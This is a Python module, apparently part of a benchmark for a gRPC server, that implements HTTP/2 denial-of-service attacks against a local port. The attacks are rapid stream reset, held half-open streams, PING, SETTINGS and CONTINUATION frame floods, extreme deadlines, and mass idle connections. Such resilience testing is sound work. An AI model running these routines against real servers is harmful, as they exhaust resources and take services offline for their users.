"""Attacks with connections and streams rather than messages. Each counts the streams, frames or connections."""

import contextlib
import socket
import time
from collections import Counter

from trunkline.names import TENANT_KEY
from trunkline_bench.attacks.vectors.calls import TENANT
from trunkline_bench.attacks.vectors.frames import (
    CONTINUATION,
    HEADERS,
    PING,
    PREFACE,
    SETTINGS,
    Connection,
    frame,
    grpc_message,
    header,
    request_headers,
)

BATCH = 100  # streams that are opened in one write
STREAMS = 1_000  # that a server allows on one connection
FRAMES = 1_000  # sent in one write
CONTINUATION_BYTES = 16_000
PAUSE_S = 0.005
IDLE_CONNECTIONS = 5_000
DEADLINES = ("1n", "99999999H")  # 1 ns, and 11,000 years


def headers_of(path: str, **more: str) -> bytes:
    return request_headers(path, {TENANT_KEY: TENANT, **more})


def rapid_reset(path: str, port: int, duration_s: float, outcomes: Counter[str]) -> None:
    """Opens streams and cancels them at once. Opens a new connection when the server closes the last one."""
    end_s, headers = time.monotonic() + duration_s, headers_of(path)
    while time.monotonic() < end_s:
        connection = Connection(port)
        while time.monotonic() < end_s and connection.open_streams(BATCH, headers, reset=True):
            outcomes["streams"] += BATCH
        connection.close()


def half_open(path: str, count: int, port: int, duration_s: float, outcomes: Counter[str]) -> None:
    """Opens streams without a message on one connection, and holds them for `duration_s`."""
    held(path, None, count, port, duration_s, outcomes, per_connection=count)


def held(
    path: str, message: bytes | None, count: int, port: int, duration_s: float, outcomes: Counter[str], *,
    ends: bool = False, per_connection: int = STREAMS,
) -> None:  # fmt: skip
    """Opens streams that send `message`, if any, and holds them for `duration_s`. Never reads the answers."""
    end_s, headers = time.monotonic() + duration_s, headers_of(path)
    body = None if message is None else grpc_message(message)
    connections: list[Connection] = []
    opened = 0
    while opened < count and time.monotonic() < end_s:
        connection = Connection(port)
        connections.append(connection)
        wanted = min(per_connection, count - opened)
        while (left := min(BATCH, wanted - connection.opened)) and connection.open_streams(
            left, headers, body=body, ends=ends
        ):
            outcomes["streams"] += left
        if not connection.opened:
            break
        opened += connection.opened
    time.sleep(max(0.0, end_s - time.monotonic()))
    for connection in connections:
        connection.close()


def cancelled(path: str, message: bytes, port: int, duration_s: float, outcomes: Counter[str]) -> None:
    """Sends whole requests and cancels each a few milliseconds later."""
    end_s = time.monotonic() + duration_s
    headers, body = headers_of(path), grpc_message(message)
    while time.monotonic() < end_s:
        connection = Connection(port)
        while time.monotonic() < end_s and connection.open_streams(BATCH, headers, body=body, ends=True):
            outcomes["streams"] += BATCH
            time.sleep(PAUSE_S)
            if not connection.reset_last(BATCH):
                break
        connection.close()


def strange_deadlines(path: str, message: bytes, port: int, duration_s: float, outcomes: Counter[str]) -> None:
    """Sends requests with the shortest and the longest deadline that gRPC can express."""
    end_s, body = time.monotonic() + duration_s, grpc_message(message)
    while time.monotonic() < end_s:
        connection = Connection(port)
        for deadline in DEADLINES:
            connection.open_streams(10, headers_of(path, **{"grpc-timeout": deadline}), body=body, ends=True)
        time.sleep(10 * PAUSE_S)
        outcomes["streams"] += connection.opened
        connection.close()


def frame_flood(kind: int, payload: bytes, port: int, duration_s: float, outcomes: Counter[str]) -> None:
    """Sends frames that each require an answer, as fast as the socket takes them."""
    end_s, data = time.monotonic() + duration_s, frame(kind, 0, 0, payload) * FRAMES
    while time.monotonic() < end_s:
        connection = Connection(port)
        outcomes["connections"] += 1
        while time.monotonic() < end_s and connection.send(data):
            outcomes["frames"] += FRAMES
        connection.close()


def ping_flood(port: int, duration_s: float, outcomes: Counter[str]) -> None:
    frame_flood(PING, bytes(8), port, duration_s, outcomes)


def settings_flood(port: int, duration_s: float, outcomes: Counter[str]) -> None:
    frame_flood(SETTINGS, b"", port, duration_s, outcomes)


def continuation_flood(path: str, port: int, duration_s: float, outcomes: Counter[str]) -> None:
    """Sends header blocks that never end."""
    end_s = time.monotonic() + duration_s
    more = frame(CONTINUATION, 0, 1, header("x", "y" * 120) * (CONTINUATION_BYTES // 124))
    while time.monotonic() < end_s:
        connection = Connection(port)
        outcomes["connections"] += 1
        listens = connection.send(frame(HEADERS, 0, 1, headers_of(path)))
        while listens and time.monotonic() < end_s:
            listens = connection.send(more)
            outcomes["frames"] += 1
        connection.close()


def idle_connections(count: int, port: int, duration_s: float, outcomes: Counter[str]) -> None:
    """Opens connections that send the HTTP/2 preface and then nothing."""
    end_s = time.monotonic() + duration_s
    with contextlib.ExitStack() as stack:
        while outcomes["connections"] < count and time.monotonic() < end_s:
            try:
                connection = stack.enter_context(socket.create_connection(("127.0.0.1", port)))
            except OSError:  # the server accepts no more
                break
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
            outcomes["connections"] += 1
        time.sleep(max(0.0, end_s - time.monotonic()))
